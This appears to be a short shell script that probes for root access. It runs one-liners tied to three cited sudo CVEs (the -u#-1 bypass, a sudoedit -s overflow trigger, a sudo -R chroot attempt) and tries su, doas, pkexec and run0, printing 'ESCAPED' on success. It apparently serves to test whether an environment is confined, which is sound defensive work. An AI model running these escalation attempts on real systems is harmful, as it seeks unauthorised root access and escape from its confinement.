# sudo by every door that it ever had.
# advisory: CVE-2019-14287 (sudo), CVE-2021-3156 (sudo), CVE-2025-32463 (sudo)
sudo -n true && echo ESCAPED; sudo -n -u#-1 id; sudoedit -s '\' 2>/dev/null; mkdir -p r/etc; sudo -n -R r id
su -c id </dev/null && echo ESCAPED su; doas -n id; pkexec id </dev/null; run0 id </dev/null
echo ATTEMPTED
